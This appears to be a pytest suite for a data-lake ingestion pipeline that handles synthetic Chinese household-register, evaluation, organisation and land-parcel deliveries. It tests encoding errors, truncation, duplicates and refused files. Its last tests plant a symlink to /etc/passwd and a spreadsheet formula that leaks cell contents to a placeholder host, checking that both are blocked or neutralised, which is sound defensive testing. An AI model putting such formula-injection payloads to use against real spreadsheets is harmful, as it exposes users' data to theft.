"""Bad deliveries, each written into a fresh landing zone and run through the real steps (Spark,
Delta): the file fails loudly naming itself, or every row is accounted for. In every case
delivered = bronze = accepted + quarantined, and nothing is lost without a trace."""

from __future__ import annotations

import datetime as dt
import json
import os

import pytest
from stdnum.cn import ric, uscc

pytestmark = pytest.mark.spark

SOURCE = "gongan__household_register"
DAY = dt.date(2026, 11, 27)
NEXT_DAY = DAY + dt.timedelta(days=1)


def id_number(serial: int) -> str:
    """A valid GB 11643 number of 昭平县 (452424, before 2002), born 1990-01-01."""
    body = f"45242419900101{serial:03d}"
    return body + ric.calc_check_digit(body + "0")


def credit_code(body: str) -> str:
    """A valid GB 32100 code: the seventeen characters given and their check character."""
    return body + uscc.calc_check_digit(body)


def row(serial: int, **changes) -> dict:
    values = {
        "公民身份号码": id_number(serial),
        "姓名": f"居民{serial}",
        "性别": "男" if serial % 2 else "女",
        "出生日期": "1990-01-01",
        "民族": "汉族",
        "户号": f"H{serial}",
        "与户主关系": "户主",
        "户籍地行政区划代码": "451121",
        "户籍地址": "昭平县昭平镇",
        "联系电话": "13800138000",
        "登记日期": "2020-05-01",
    }
    values.update(changes)
    return values


def csv_line(values, headers) -> str:
    def quoted(text):
        text = "" if text is None else str(text)
        return (
            f'"{text.replace(chr(34), chr(34) * 2)}"' if any(c in text for c in ',"\n\r') else text
        )

    return ",".join(quoted(values.get(h)) for h in headers)


def deliver(env, contract, text: str | bytes, day=DAY, name="register.csv"):
    folder = env.landing / contract.department / contract.source_name / day.isoformat()
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return path


def register(rows, headers) -> str:
    return "\n".join([",".join(headers), *(csv_line(r, headers) for r in rows)]) + "\n"


@pytest.fixture
def city(data_root, spark):
    from citylake.config import settings
    from citylake.lake import Lake

    env, _, contracts = settings()
    return env, contracts[SOURCE], Lake(env, spark)


def run(day=DAY, source=SOURCE) -> tuple[dict, dict]:
    from citylake import flow

    return flow.ingest(source, day), flow.standardize(source, day)


def accounted(lake, ingested: dict, standardized: dict, source=SOURCE) -> dict:
    """Counts of every hop for the batches just run, each from its own table."""
    from pyspark.sql import functions as F

    batches = [f["batch_id"] for f in ingested["files"] if not f["skipped"]]
    delivered = sum(int(f["rows_delivered"]) for f in ingested["files"] if not f["skipped"])
    in_batches = F.col("_batch_id").isin(batches)
    bronze = lake.read("bronze", source).where(in_batches).count()
    quarantined = lake.read("quarantine", source).where(in_batches).count()
    accepted = sum(b["accepted"] for b in standardized["batches"])
    assert delivered == bronze == accepted + quarantined
    assert sum(b["quarantined"] for b in standardized["batches"]) == quarantined
    return {"delivered": delivered, "accepted": accepted, "quarantined": quarantined}


def reasons_by_row(lake, source=SOURCE) -> dict[int, list[str]]:
    rows = lake.read("quarantine", source).collect()
    return {r["_row_number"]: sorted(r["reason_codes"]) for r in rows}


def current_silver(lake):
    silver = lake.read("silver", "person")
    return silver.where("is_current") if "is_current" in silver.columns else silver


def nothing_written(lake, env, path):
    from pipelines.ingest import MANIFEST

    assert not lake.exists("bronze", SOURCE)
    assert not lake.exists("ops", MANIFEST)
    assert path.exists()  # the delivery stays where the department put it


def test_wrong_encoding_declared_fails_the_file_naming_line_and_encoding(city):
    from citylake import flow

    env, contract, lake = city
    path = deliver(env, contract, register([row(1), row(2)], contract.headers).encode("gbk"))
    with pytest.raises(flow.DeliveryError) as error:
        flow.ingest(SOURCE, DAY)
    message = str(error.value)
    assert str(path) in message and "line 1" in message and "not valid utf-8" in message
    nothing_written(lake, env, path)


def test_truncated_file_keeps_the_cut_row_and_quarantines_it(city):
    env, contract, lake = city
    text = register([row(1), row(2), row(3)], contract.headers)
    deliver(env, contract, text[: text.rindex("\n", 0, -1) + 25])  # last line cut mid-row
    counts = accounted(lake, *run())
    assert counts == {"delivered": 3, "accepted": 2, "quarantined": 1}
    (reasons,) = reasons_by_row(lake).values()
    assert "_row.malformed_row" in reasons  # with the required fields the cut took away
    (cut,) = lake.read("quarantine", SOURCE).collect()
    assert cut["_row_number"] == 3
    assert cut["_malformed_line"] == text[text.rindex("\n", 0, -1) + 1 :][:24]


def test_file_cut_inside_a_quoted_field_keeps_the_cut_row(city):
    env, contract, lake = city
    text = register([row(1), row(2, 户籍地址="昭平县, 昭平镇 1号")], contract.headers)
    deliver(env, contract, text[: text.index("昭平镇 1号")])  # ends inside the open quote
    counts = accounted(lake, *run())
    assert counts == {"delivered": 2, "accepted": 1, "quarantined": 1}
    assert reasons_by_row(lake)[2] == ["_row.malformed_row"]


def test_extra_columns_are_kept_in_bronze_and_reported(city):
    env, contract, lake = city
    headers = [*contract.headers[:3], "备注", *contract.headers[3:], "数据来源"]
    rows = [row(1, 备注="迁入", 数据来源="户政系统"), row(2, 备注="", 数据来源="户政系统")]
    deliver(env, contract, register(rows, headers))
    ingested, standardized = run()
    (summary,) = ingested["files"]
    assert summary["extra_columns"] == ["备注", "数据来源"] and summary["absent_columns"] == []
    assert accounted(lake, ingested, standardized) == {
        "delivered": 2,
        "accepted": 2,
        "quarantined": 0,
    }
    bronze = {r["_row_number"]: r for r in lake.read("bronze", SOURCE).collect()}
    assert bronze[1]["_extra_columns"] == {"备注": "迁入", "数据来源": "户政系统"}
    assert bronze[2]["_extra_columns"] == {"备注": None, "数据来源": "户政系统"}
    assert bronze[1]["name"] == "居民1"  # contract columns found by header, not by position
    assert "_extra_columns" not in lake.read("silver", "person").columns


def test_missing_optional_column_is_null_and_reported(city):
    env, contract, lake = city
    headers = [h for h in contract.headers if h != "联系电话"]
    deliver(env, contract, register([row(1)], headers))
    ingested, standardized = run()
    assert ingested["files"][0]["absent_columns"] == ["联系电话"]
    assert accounted(lake, ingested, standardized)["accepted"] == 1
    assert lake.read("bronze", SOURCE).first()["phone"] is None


def test_missing_required_column_fails_the_file_naming_it(city):
    from citylake import flow

    env, contract, lake = city
    headers = [h for h in contract.headers if h != "户号"]
    path = deliver(env, contract, register([row(1)], headers))
    with pytest.raises(flow.DeliveryError) as error:
        flow.ingest(SOURCE, DAY)
    assert str(path) in str(error.value) and "missing required columns ['户号']" in str(error.value)
    nothing_written(lake, env, path)


def test_empty_file_fails_naming_it(city):
    from citylake import flow

    env, contract, lake = city
    path = deliver(env, contract, b"")
    with pytest.raises(flow.DeliveryError, match=rf"{path}: the file is empty \(0 bytes\)"):
        flow.ingest(SOURCE, DAY)
    nothing_written(lake, env, path)


def test_header_only_file_is_a_batch_of_no_rows(city):
    from citylake import flow
    from pipelines.ingest import MANIFEST

    env, contract, lake = city
    deliver(env, contract, ",".join(contract.headers) + "\r\n")
    (summary,) = flow.ingest(SOURCE, DAY)["files"]
    assert (summary["rows_delivered"], summary["rows_bronze"], summary["skipped"]) == (
        "0",
        "0",
        False,
    )
    (manifest,) = lake.read("ops", MANIFEST).collect()
    assert (manifest["batch_id"], manifest["rows_delivered"]) == (summary["batch_id"], 0)
    assert lake.read("bronze", SOURCE).count() == 0
    assert flow.ingest(SOURCE, DAY)["files"][0]["skipped"]  # and it counts as delivered


def test_embedded_newlines_and_quotes_survive(city):
    env, contract, lake = city
    address = '昭平县昭平镇\n"幸福"小区, 3栋\r\n2单元'
    deliver(env, contract, register([row(1), row(2, 户籍地址=address), row(3)], contract.headers))
    counts = accounted(lake, *run())
    assert counts == {"delivered": 3, "accepted": 3, "quarantined": 0}
    bronze = {r["_row_number"]: r for r in lake.read("bronze", SOURCE).collect()}
    assert bronze[2]["address"] == address  # exactly as delivered
    assert bronze[3]["id_number"] == id_number(3)  # the next record is not shifted
    silver = {r["id_number"]: r for r in current_silver(lake).collect()}
    assert (
        silver[id_number(2)]["address"] == '昭平县昭平镇 "幸福"小区, 3栋 2单元'
    )  # blanks collapsed


def test_duplicate_keys_in_one_file_keep_the_first_and_quarantine_the_rest(city):
    env, contract, lake = city
    rows = [row(1), row(2), row(1, 姓名="重复一"), row(3), row(1, 姓名="重复二")]
    deliver(env, contract, register(rows, contract.headers))
    counts = accounted(lake, *run())
    assert counts == {"delivered": 5, "accepted": 3, "quarantined": 2}
    assert reasons_by_row(lake) == {3: ["id_number.duplicate_key"], 5: ["id_number.duplicate_key"]}
    silver = {r["id_number"]: r["name"] for r in current_silver(lake).collect()}
    assert silver == {id_number(1): "居民1", id_number(2): "居民2", id_number(3): "居民3"}


def test_same_file_twice_is_a_no_op_and_a_corrected_redelivery_replaces_its_keys(city):
    from pyspark.sql import functions as F

    env, contract, lake = city
    first = register([row(1), row(2), row(3)], contract.headers)
    deliver(env, contract, first)
    accounted(lake, *run())
    (again,) = run()[0]["files"]  # the scheduler retries the same day: same content
    assert again["skipped"] and "same content hash" in again["reason"]
    assert lake.read("bronze", SOURCE).count() == 3

    # The department corrects two people the next day and resends the whole extract.
    corrected = [row(1, 姓名="居民一"), row(2, 户籍地址="昭平县走马镇"), row(3)]
    deliver(env, contract, register(corrected, contract.headers), day=NEXT_DAY)
    ingested, standardized = run(NEXT_DAY)
    (summary,) = ingested["files"]
    assert not summary["skipped"] and summary["batch_id"] != again["batch_id"]
    assert accounted(lake, ingested, standardized)["accepted"] == 3
    silver = current_silver(lake)
    assert silver.count() == silver.select("id_number").distinct().count() == 3
    current = {r["id_number"]: r for r in silver.collect()}
    assert current[id_number(1)]["name"] == "居民一"
    assert current[id_number(2)]["address"] == "昭平县走马镇"
    assert current[id_number(2)]["_batch_id"] == summary["batch_id"]
    assert current[id_number(3)]["name"] == "居民3"
    bronze_batches = lake.read("bronze", SOURCE).groupBy("_batch_id").agg(F.count("*")).collect()
    assert sorted(n for _, n in bronze_batches) == [3, 3]  # both versions kept, as delivered


# ----------------------------------------------------------------------------- the hard cases


def test_a_valid_row_survives_an_invalid_twin_and_the_twin_says_which_row_won(city):
    env, contract, lake = city
    rows = [
        row(1, 户籍地行政区划代码="999999"),  # invalid, first in the file
        row(1, 姓名="居民一"),  # its valid twin
        row(2),
        row(2, 姓名="重复"),  # a valid duplicate: the first valid row wins
        row(3, 户号=""),  # invalid twins only: nothing accepted for the key
        row(3, 登记日期="not a date"),
    ]
    deliver(env, contract, register(rows, contract.headers))
    counts = accounted(lake, *run())
    assert counts == {"delivered": 6, "accepted": 2, "quarantined": 4}
    quarantine = {r["_row_number"]: r for r in lake.read("quarantine", SOURCE).collect()}
    assert quarantine[1]["reason_codes"] == ["division_code.unknown_division"]
    assert quarantine[1]["_kept_row_number"] == 2  # which valid row won
    assert quarantine[4]["reason_codes"] == ["id_number.duplicate_key"]
    assert quarantine[4]["_kept_row_number"] == 3
    assert quarantine[5]["_kept_row_number"] is None and quarantine[6]["_kept_row_number"] is None
    silver = {r["id_number"]: r["name"] for r in current_silver(lake).collect()}
    assert silver == {id_number(1): "居民一", id_number(2): "居民2"}


def test_a_correction_of_the_same_day_applies_after_what_it_corrects_whatever_its_name(city):
    env, contract, lake = city
    first = deliver(env, contract, register([row(1), row(2)], contract.headers), name="z.csv")
    correction = deliver(
        env, contract, register([row(1, 姓名="居民一")], contract.headers), name="a.csv"
    )
    os.utime(first, (1_700_000_000, 1_700_000_000))
    os.utime(correction, (1_700_000_600, 1_700_000_600))  # ten minutes later
    ingested, standardized = run()
    assert [f["file"].rsplit("/", 1)[1] for f in ingested["files"]] == ["z.csv", "a.csv"]
    accounted(lake, ingested, standardized)
    silver = {r["id_number"]: r["name"] for r in current_silver(lake).collect()}
    assert silver == {id_number(1): "居民一", id_number(2): "居民2"}


def test_a_batch_with_nothing_to_quarantine_after_one_with_something_counts_zero(city):
    """Delta makes no commit for an empty overwrite that replaces nothing: the counts of such a
    write are zero, not the metrics of the commit before it (bronze and quarantine alike)."""
    env, contract, lake = city
    first = deliver(
        env, contract, register([row(1), row(2, 户号="")], contract.headers), name="a.csv"
    )
    clean = deliver(env, contract, register([row(3)], contract.headers), name="b.csv")
    header_only = deliver(env, contract, ",".join(contract.headers) + "\n", name="c.csv")
    for offset, path in enumerate([first, clean, header_only]):
        os.utime(path, (1_700_000_000 + offset * 60,) * 2)
    ingested, standardized = run()
    assert [int(f["rows_bronze"]) for f in ingested["files"]] == [2, 1, 0]
    assert [(b["accepted"], b["quarantined"]) for b in standardized["batches"]] == [
        (1, 1),
        (1, 0),
        (0, 0),
    ]
    assert accounted(lake, ingested, standardized) == {
        "delivered": 3,
        "accepted": 2,
        "quarantined": 1,
    }


def test_the_same_content_twice_in_a_day_is_one_entry_and_a_next_day_resend_no_change(city):
    from citylake import flow
    from pipelines.ingest import MANIFEST

    env, contract, lake = city
    text = register([row(1), row(2)], contract.headers)
    deliver(env, contract, text, name="register.csv")
    deliver(env, contract, text, name="register (1).csv")  # the same file placed twice
    ingested, standardized = run()
    assert sorted(f["skipped"] for f in ingested["files"]) == [False, True]
    assert accounted(lake, ingested, standardized)["delivered"] == 2
    assert lake.read("ops", MANIFEST).count() == 1
    deliver(env, contract, text, day=NEXT_DAY)  # unchanged the next day: no change, no failure
    resent, standardized = run(NEXT_DAY)
    (summary,) = resent["files"]
    assert summary["redelivery"] and summary["skipped"]
    assert standardized["batches"] == [] or all(b["accepted"] == 0 for b in standardized["batches"])
    assert lake.read("bronze", SOURCE).count() == 2
    assert flow.pending(NEXT_DAY) == {}


def test_links_hidden_files_and_folders_are_refused_recorded_and_never_opened(city, tmp_path):
    from citylake import flow
    from pipelines import ops

    env, contract, lake = city
    outside = tmp_path / "outside.csv"  # a valid extract outside the landing zone
    outside.write_text(register([row(7)], contract.headers), encoding="utf-8")
    good = deliver(env, contract, register([row(1)], contract.headers))
    folder = good.parent
    (folder / "linked.csv").symlink_to(outside)
    (folder / "passwd.csv").symlink_to("/etc/passwd")
    (folder / ".register.csv.part").write_text(register([row(8)], contract.headers))
    (folder / "older").mkdir()
    ingested, standardized = run()
    refused = {r["file"].rsplit("/", 1)[1]: r["refused"] for r in ingested["refused"]}
    assert refused == {
        "linked.csv": "symlink",
        "passwd.csv": "symlink",
        ".register.csv.part": "hidden",
        "older": "folder",
    }
    assert "to /etc/passwd" in next(
        r["reason"] for r in ingested["refused"] if "passwd" in r["file"]
    )
    assert accounted(lake, ingested, standardized) == {
        "delivered": 1,
        "accepted": 1,
        "quarantined": 0,
    }
    assert {r["_source_file"] for r in lake.read("bronze", SOURCE).collect()} == {
        str(good.relative_to(env.landing))
    }
    run()  # a rerun reports them again and records nothing twice
    assert lake.read("ops", ops.LANDING_REFUSALS).count() == 4

    # A day folder that is itself a link (to a folder outside) is refused whole.
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "register.csv").write_text(register([row(9)], contract.headers))
    (folder.parent / NEXT_DAY.isoformat()).symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(flow.DeliveryError, match="nothing taken on 2026-11-28.*resolves to"):
        flow.ingest(SOURCE, NEXT_DAY)
    assert lake.read("bronze", SOURCE).count() == 1
    assert lake.read("ops", ops.LANDING_REFUSALS).where("reason_code = 'outside'").count() == 1


def test_a_stray_quote_is_text_and_cr_only_line_ends_are_read_line_for_line(city):
    env, contract, lake = city
    text = register(
        [row(1, 姓名='张"三'), row(2, 户籍地址='昭平镇"幸福'), row(3)], contract.headers
    )
    deliver(env, contract, text.replace("\n", "\r"), name="mac.csv")  # classic Mac line ends
    ingested, standardized = run()
    (summary,) = ingested["files"]
    assert summary["line_ends"].startswith("CR")
    assert accounted(lake, ingested, standardized) == {
        "delivered": 3,
        "accepted": 3,
        "quarantined": 0,
    }
    bronze = {r["_row_number"]: r for r in lake.read("bronze", SOURCE).collect()}
    assert (bronze[1]["name"], bronze[2]["address"]) == ('张"三', '昭平镇"幸福')
    assert bronze[3]["id_number"] == id_number(3)
    assert summary["file"].endswith("mac.csv")  # lineage names the delivered file


def test_a_carriage_return_inside_a_line_fails_the_file_naming_the_line(city):
    from citylake import flow

    env, contract, lake = city
    text = register([row(1), row(2, 户籍地址="昭平镇\r幸福路"), row(3)], contract.headers)
    text = text.replace('"昭平镇\r幸福路"', "昭平镇\r幸福路")  # unquoted, as a bad export writes it
    path = deliver(env, contract, text)
    with pytest.raises(flow.DeliveryError, match=rf"{path}: line 3: a carriage return"):
        flow.ingest(SOURCE, DAY)
    nothing_written(lake, env, path)


def test_nul_and_other_invisible_characters_are_removed_in_silver_kept_in_bronze(city):
    env, contract, lake = city
    rows = [row(1, 姓名="张\x00三\u200b", 户籍地址="昭平镇\x07幸福路"), row(2)]
    rows.append(row(3, 公民身份号码=id_number(3)[:5] + "\x00" + id_number(3)[5:]))
    deliver(env, contract, register(rows, contract.headers))
    assert accounted(lake, *run())["accepted"] == 3
    silver = {r["id_number"]: r for r in current_silver(lake).collect()}
    assert (silver[id_number(1)]["name"], silver[id_number(1)]["address"]) == (
        "张三",
        "昭平镇幸福路",
    )
    assert id_number(3) in silver
    bronze = {r["_row_number"]: r for r in lake.read("bronze", SOURCE).collect()}
    assert bronze[1]["name"] == "张\x00三\u200b"  # as delivered


EVALUATIONS = "zhengwu__evaluations"


def test_json_lines_with_single_quotes_or_a_repeated_key_are_quarantined_with_their_reason(
    city,
):
    env, _, lake = city
    from citylake.config import settings

    contract = settings()[2][EVALUATIONS]

    def evaluation(number: int, **changes) -> dict:
        values = {
            "评价编号": f"E{number}",
            "办件编号": f"C{number}",
            "评价时间": "2026-11-26 10:00:00",
        }
        return {**values, "评价渠道": "线上", "评价等级": "满意", "评价分值": 4, **changes}

    lines = [
        json.dumps(evaluation(1), ensure_ascii=False),
        "{'评价编号': 'E2', '办件编号': 'C2', '评价时间': '2026-11-26 10:00:00', '评价等级': '满意'}",
        json.dumps(evaluation(3), ensure_ascii=False)[:-1] + ', "评价等级": "不满意"}',
        json.dumps(evaluation(4), ensure_ascii=False),
    ]
    deliver(env, contract, "\n".join(lines) + "\n", name="evaluations.jsonl")
    counts = accounted(lake, *run(source=EVALUATIONS), source=EVALUATIONS)
    assert counts == {"delivered": 4, "accepted": 2, "quarantined": 2}
    assert reasons_by_row(lake, EVALUATIONS) == {
        2: ["_row.not_json_object"],
        3: ["_row.duplicate_json_key"],
    }
    quarantine = {r["_row_number"]: r for r in lake.read("quarantine", EVALUATIONS).collect()}
    assert quarantine[3]["_malformed_line"] == lines[2]  # the line itself, for the department


ORGS = "minzheng__social_organisations"


def test_xlsx_title_rows_other_sheets_and_formulas_without_a_value_are_reported(city):
    from openpyxl import Workbook

    env, _, lake = city
    from citylake.config import settings

    contract = settings()[2][ORGS]
    headers = contract.headers

    def org(serial: int, **values):
        record = dict.fromkeys(headers)
        record.update(
            {
                "统一社会信用代码": credit_code(f"51451100MJ000000{serial}"),
                "社会组织名称": f"贺州市协会{serial}",
                "社会组织类型": "社会团体",
                "成立登记日期": dt.datetime(2015, 3, 9),
                "登记管理机关行政区划代码": "451102",
                "登记状态": "正常",
            }
        )
        record.update(values)
        return [record[h] for h in headers]

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = contract.sheet  # the contract names the sheet that holds the extract
    sheet.append(["贺州市社会组织登记信息（2026年11月）"])  # a title row, then a blank one
    sheet.append([])
    sheet.append(headers)  # the header on row 3
    sheet.append(org(0))
    sheet.append(org(1, **{"注册资金（万元）": "=B4*0"}))  # a formula saved without its result
    sheet.append(org(2))
    workbook.create_sheet("说明").append(["填报说明：每月报送"])  # a second sheet with text
    path = env.landing / contract.department / contract.source_name / DAY.isoformat()
    path.mkdir(parents=True)
    workbook.save(path / "orgs.xlsx")
    ingested, standardized = run(source=ORGS)
    (summary,) = ingested["files"]
    assert (summary["sheet"], summary["header_row"]) == ("社会组织登记信息", 3)
    assert summary["rows_above_header"] == [1]
    assert summary["ignored_sheets"] == ["说明"]
    assert accounted(lake, ingested, standardized, source=ORGS) == {
        "delivered": 3,
        "accepted": 2,
        "quarantined": 1,
    }
    bronze = sorted(r["_row_number"] for r in lake.read("bronze", ORGS).collect())
    assert bronze == [4, 5, 6]  # the rows Excel shows
    assert reasons_by_row(lake, ORGS) == {5: ["registered_capital.formula_without_value"]}


PARCELS = "ziran__land_parcels"


def test_geojson_self_intersecting_or_outside_the_city_is_quarantined(city):
    env, _, lake = city
    from citylake.config import settings

    contract = settings()[2][PARCELS]

    def parcel(number: int, ring: list) -> dict:
        return {
            "type": "Feature",
            "properties": {"宗地代码": f"P{number}", "所在行政区划代码": "451102"},
            "geometry": {"type": "Polygon", "coordinates": [ring]},
        }

    square = [[111.5, 24.4], [111.6, 24.4], [111.6, 24.5], [111.5, 24.5], [111.5, 24.4]]
    bowtie = [[111.5, 24.4], [111.6, 24.5], [111.6, 24.4], [111.5, 24.5], [111.5, 24.4]]
    beijing = [[116.3, 39.9], [116.4, 39.9], [116.4, 40.0], [116.3, 40.0], [116.3, 39.9]]
    features = [parcel(1, square), parcel(2, bowtie), parcel(3, beijing)]
    collection = {"type": "FeatureCollection", "features": features}
    deliver(env, contract, json.dumps(collection), name="parcels.geojson")
    counts = accounted(lake, *run(source=PARCELS), source=PARCELS)
    assert counts == {"delivered": 3, "accepted": 1, "quarantined": 2}
    assert reasons_by_row(lake, PARCELS) == {
        2: ["geometry.self_intersection"],
        3: ["geometry.outside_city"],
    }


def test_the_bronze_gate_and_the_quarantine_agree_on_every_id_number(city):
    """One rule, one implementation: on two thousand planted numbers (wrong check digits, a
    division code used outside its era, a birth after the delivery date but before today,
    wrong lengths) the bronze gate's invalid count is the quarantine's."""
    import random

    from pipelines import ops

    env, contract, lake = city
    pick = random.Random(12)

    def planted(serial: int) -> str:
        kind = serial % 6
        if kind == 0:  # 昭平县's code for a birth after it was retired (2002): division era
            body = f"45242420100101{serial % 1000:03d}"
        elif kind == 1:  # born after the delivery date (DAY), before today: future birth
            body = f"45112120261130{serial % 1000:03d}"
        elif kind == 2:  # valid, issued under today's code
            body = f"45112120050607{serial % 1000:03d}"
        else:
            body = f"45242419{pick.randint(50, 99)}0{pick.randint(1, 9)}1{pick.randint(0, 9)}"
            body += f"{serial % 1000:03d}"
        number = body + ric.calc_check_digit(body + "0")
        if kind == 4:  # one check digit off
            number = number[:17] + ("0" if number[17] != "0" else "1")
        if kind == 5 and serial % 4 == 0:
            number = number[:16]  # cut short
        return number

    numbers = sorted({planted(s) for s in range(2_000)})
    rows = [row(0, 公民身份号码=n, 户号=f"H{i}") for i, n in enumerate(numbers)]
    deliver(env, contract, register(rows, contract.headers))
    ingested, standardized = run()
    accounted(lake, ingested, standardized)
    results = lake.read("ops", ops.QUALITY_RESULTS).where(
        "layer = 'bronze' AND expectation = 'expect_column_values_to_be_valid_id_number'"
    )
    (gate,) = results.collect()
    quarantined = sum(
        1
        for codes in reasons_by_row(lake).values()
        if any(c.startswith("id_number.") for c in codes)
    )
    assert gate["element_count"] == len(numbers)
    assert 600 < gate["unexpected_count"] == quarantined < len(numbers)


def test_formulas_in_delivered_values_are_inert_in_every_spreadsheet_export(city):
    """Values that a spreadsheet would run (=, +, -, @) stay verbatim in the lake and reach the
    department's quarantine list and report as text; numbers stay numbers; personal data is
    masked there, and a masked value is made safe too."""
    import csv

    env, contract, lake = city
    attack = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
    rows = [
        row(
            1, 公民身份号码="452424199001010X1", 姓名="=1+1", 民族=attack, 户籍地址="@SUM(1+1)|calc"
        ),
        row(2, 民族="@SUM(1+1)"),
        row(3, 公民身份号码="-1", 户号="-2+3", 与户主关系="-12.5"),
        row(4),
    ]
    deliver(env, contract, register(rows, contract.headers))
    ingested, standardized = run()
    assert accounted(lake, ingested, standardized)["quarantined"] == 2
    silver = {r["id_number"]: r for r in current_silver(lake).collect()}
    assert silver[id_number(2)]["ethnicity"] == "@SUM(1+1)"  # the lake keeps what was sent

    report = env.root / "quality" / "reports" / contract.department
    listing = report / DAY.isoformat() / f"{SOURCE}.quarantine.csv"
    assert listing.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    with listing.open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.DictReader(handle))
    by_row = {int(line["行号 row"]): line for line in lines}
    assert sorted(by_row) == [1, 3]
    assert by_row[1]["民族"] == "'" + attack
    assert by_row[1]["户籍地址"] == "***"  # masked as an address (no township or county named)
    assert by_row[1]["姓名"] == "'=***"  # masked as a name (=1+1: four characters), still made safe
    assert (by_row[3]["户号"], by_row[3]["与户主关系"]) == ("'-2+3", "-12.5")
    assert "id_number.format" in by_row[1]["原因代码 reason codes"]
    assert by_row[1]["文件 file"].endswith("register.csv")
    for line in lines:
        assert not any(v.startswith(("=", "+", "@")) for v in line.values())
    markdown = (report / f"{DAY.isoformat()}.md").read_text(encoding="utf-8")
    assert f"({DAY.isoformat()}/{SOURCE}.quarantine.csv)" in markdown
